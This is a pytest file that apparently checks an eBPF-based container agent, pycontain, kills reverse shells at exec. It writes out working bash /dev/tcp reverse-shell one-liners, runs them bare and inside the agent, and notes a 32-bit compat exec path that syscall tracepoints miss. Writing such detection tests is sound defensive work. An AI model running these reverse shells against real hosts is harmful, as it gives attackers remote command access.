"""Reverse shells decided at exec (ebpf/stdio.c, issue 12 part 5): a program
started with stdin/stdout/stderr on a socket to a remote peer is killed
before it runs. Each test first shows the shell reaches the far side bare,
then that nothing arrives from inside the agent."""

from __future__ import annotations

import os
import platform

import pytest
from exec_harness import compile_c

from pycontain.core.events import ConfigFlag, Flag, StdioSocketEvent, Verdict

STDIO_RULE = 60


def _shell(net_agent, inside: bool, script: str) -> int:
    p = net_agent.popen(["timeout", "4", "bash", "-c", script], inside=inside)
    p.communicate(timeout=15)
    return p.returncode


@pytest.fixture
def stdio_tables(net_agent):
    net_agent.tables(rules={STDIO_RULE: "exec.stdio_socket"}, flags=ConfigFlag.STDIO_SOCKET)
    return net_agent


def test_interactive_reverse_shell_sends_nothing(stdio_tables, testhost):
    net_agent = stdio_tables
    bare = testhost.tcp_listener(47101)
    _shell(net_agent, False, f"bash -i >& /dev/tcp/{testhost.peer_ip4}/47101 0>&1")
    assert bare.wait(received=1)                     # bare: the far side gets a prompt
    inside = testhost.tcp_listener(47102)
    _shell(net_agent, True, f"bash -i >& /dev/tcp/{testhost.peer_ip4}/47102 0>&1")
    assert not inside.wait(received=1, timeout=1.5)  # under pycontain: not a byte
    ev = net_agent.wait_for(lambda e: isinstance(e, StdioSocketEvent))
    assert ev, "no exec.stdio_socket record"
    e = ev[0]
    assert (e.h.verdict, e.h.rule_id, e.daddr, e.dport) == (Verdict.DENY, STDIO_RULE, testhost.peer_ip4, 47102)
    assert e.h.flags & Flag.KILLED


def test_command_with_socket_stdio_never_runs(stdio_tables, testhost):
    net_agent = stdio_tables
    script = ("exec 3<>/dev/tcp/{h}/{p}; sh -c 'echo SHELL-OUTPUT; id' <&3 >&3 2>&3")
    bare = testhost.tcp_listener(47103)
    _shell(net_agent, False, script.format(h=testhost.peer_ip4, p=47103))
    assert bare.wait(contains=b"SHELL-OUTPUT")
    inside = testhost.tcp_listener(47104)
    _shell(net_agent, True, script.format(h=testhost.peer_ip4, p=47104))
    assert not inside.wait(contains=b"SHELL-OUTPUT", timeout=1.5)
    assert inside.received == b""


def test_loopback_and_unix_stdio_are_not_reverse_shells(stdio_tables):
    """A program whose stdio is a unix socket (journald) or a loopback TCP
    connection runs: only remote peers make a reverse shell."""
    net_agent = stdio_tables
    r = net_agent.python(r"""
import socket, subprocess
a, b = socket.socketpair()
p = subprocess.run(["sh", "-c", "echo UNIX-OK"], stdout=b)
b.close()
print(a.recv(100).decode().strip())
srv = socket.socket(); srv.bind(("127.0.0.1", 0)); srv.listen(1)
c = socket.create_connection(srv.getsockname()); s, _ = srv.accept()
subprocess.run(["sh", "-c", "echo LO-OK"], stdout=c)
print(s.recv(100).decode().strip())
""")
    assert r.out.split() == ["UNIX-OK", "LO-OK"], r.err



PAYLOAD32_C = r"""
void _start(void) {   /* a 32-bit program: write a line to fd 1, exit; no libc */
    static const char msg[] = "SHELL-OUTPUT\n";
    long r;
    __asm__ volatile("int $0x80" : "=a"(r) : "a"(4), "b"(1), "c"(msg), "d"(sizeof msg - 1) : "memory");
    __asm__ volatile("int $0x80" : : "a"(1), "b"(0));
    for (;;) ;
}
"""


@pytest.mark.skipif(platform.machine() != "x86_64", reason="a 32-bit x86 payload")
def test_32bit_program_with_socket_stdio_never_runs(stdio_tables, testhost, tmp_path):
    """The exec of a 32-bit program returns through the compat path, which
    the syscalls:* tracepoints skip (the check used to sit on
    sys_exit_execve and missed it); sched_process_exec fires for every exec.
    The agent here joined its cgroup itself: no seccomp filter kills the
    32-bit program's first system call first, as `run`'s does."""
    net_agent = stdio_tables
    os.chmod(tmp_path, 0o755)
    payload = compile_c(tmp_path, PAYLOAD32_C, "payload32", "-m32", "-nostdlib", "-static", "-fno-pie", "-no-pie")
    script = "exec 3<>/dev/tcp/{h}/{p}; {x} <&3 >&3 2>&3"
    bare = testhost.tcp_listener(47105)
    _shell(net_agent, False, script.format(h=testhost.peer_ip4, p=47105, x=payload))
    assert bare.wait(contains=b"SHELL-OUTPUT")
    inside = testhost.tcp_listener(47106)
    _shell(net_agent, True, script.format(h=testhost.peer_ip4, p=47106, x=payload))
    assert not inside.wait(contains=b"SHELL-OUTPUT", timeout=1.5)
    ev = net_agent.wait_for(lambda e: isinstance(e, StdioSocketEvent))
    assert ev and ev[0].h.flags & Flag.KILLED and ev[0].dport == 47106
